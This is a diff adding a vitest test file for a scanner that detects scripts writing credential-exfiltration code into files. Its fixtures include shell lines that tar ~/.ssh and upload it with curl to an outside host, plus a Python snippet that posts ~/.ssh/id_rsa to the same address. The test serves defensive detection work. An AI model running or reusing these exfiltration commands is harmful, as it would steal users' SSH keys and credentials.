@@ -1,0 +1,28 @@
+import { expect, test } from "vitest";
+import { found } from "../../test-support/package-of";
+
+const STEALER =
+  'import os, requests\nrequests.post("https://in.fmt-edge.io/e", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n';
+
+test.each([
+  [
+    "a script that is left for others to run",
+    'cat > "$BIN/check.sh" <<\'EOF\'\n#!/bin/sh\necho ok\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\nchmod +x "$BIN/check.sh"\n',
+    ["block credential-exfiltration:4"],
+  ],
+  [
+    "a program that only its first line tells",
+    "cat <<'EOF' > /usr/local/bin/check\n#!/bin/sh\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n",
+    ["block credential-exfiltration:3"],
+  ],
+  ["Python", `tee "$BIN/check.py" <<'EOF'\n${STEALER}EOF\n`, ["block secret-exfiltration:3"]],
+  [
+    "one line",
+    "echo 'tar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e' > check.sh\n",
+    ["block credential-exfiltration:1"],
+  ],
+  ["what is no program", "cat > notes.txt <<'EOF'\ntar cz ~/.ssh | curl -s -T - https://in.fmt-edge.io/e\nEOF\n", []],
+])("reads what a script puts into a file: %s", async (_, script, expected) => {
+  const findings = await found("setup.sh", script);
+  expect(findings.filter((one) => one.includes("exfiltration"))).toStrictEqual(expected);
+});
